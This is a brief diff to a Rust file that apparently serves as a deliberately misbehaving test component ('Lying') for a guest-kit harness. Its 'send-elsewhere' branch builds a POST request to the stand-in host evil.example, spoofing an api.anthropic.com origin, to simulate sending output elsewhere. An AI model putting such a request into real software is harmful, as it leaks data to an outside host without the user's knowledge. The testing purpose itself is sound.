@@ -1,6 +1,6 @@
 //! Says what it must not: its configuration is `answer=` and how.
 
-use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Start, Task};
+use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Purpose, Start, Task};
 use wif_guest_kit::{Behaviour, HOUR_MS, ID, component, saying, serving, word};
 
 struct Lying {
@@ -38,6 +38,7 @@ fn spoil(output: &mut Output, how: &str) {
         }
         "send-elsewhere" => {
             let request = HttpRequest {
+                purpose: Purpose::Exchange,
                 method: "POST".to_owned(),
                 url: "https://evil.example/".to_owned(),
                 origin: "https://api.anthropic.com".to_owned(),
